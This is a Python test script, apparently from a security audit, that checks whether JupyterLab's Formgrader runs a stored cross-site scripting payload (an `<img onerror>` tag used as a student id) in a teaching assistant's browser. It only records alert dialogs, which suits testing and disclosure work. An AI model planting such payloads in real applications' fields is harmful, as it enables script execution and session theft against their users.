"""a07 live: JupyterLab + Formgrader serving a07's course, chromium opens the submission page of the student whose
id (folder name) is `x<img src=x onerror=alert(document.domain)>`: does the script run in the TA's page?"""
import sqlite3, tempfile
from common import *
from tests import browser
COURSE = "/tmp/attack35-root-a07"
EVIL = "x<img src=x onerror=alert(document.domain)>"
STUB = ("window.MathJax={Hub:{Config:function(){},Queue:function(){},Startup:{signal:{Interest:function(f){"
        "setTimeout(function(){f('End')},300)}}}}};")
nid = sqlite3.connect(f"{COURSE}/gradebook.db").execute("""select n.id from submitted_notebook n join submitted_assignment s
    on n.assignment_id=s.id where s.student_id=?""", (EVIL,)).fetchone()[0]
work = tempfile.mkdtemp(prefix="attack35-root-a08-")
with browser.jupyter_lab(COURSE, work) as (url, token), browser.chromium(work) as page:
    page.route("https://cdnjs.cloudflare.com/**", lambda route: route.fulfill(status=200, content_type="application/javascript", body=STUB))
    dialogs = []; page.on("dialog", lambda d: dialogs.append(d.message))
    page.goto(f"{url}/lab?token={token}"); page.wait_for_timeout(3000)
    page.goto(f"{url}/formgrader/submissions/{nid}/"); page.wait_for_timeout(4000)
    print("dialogs raised by the student id in the TA's Formgrader page:", dialogs)
shutil.rmtree(work, ignore_errors=True)
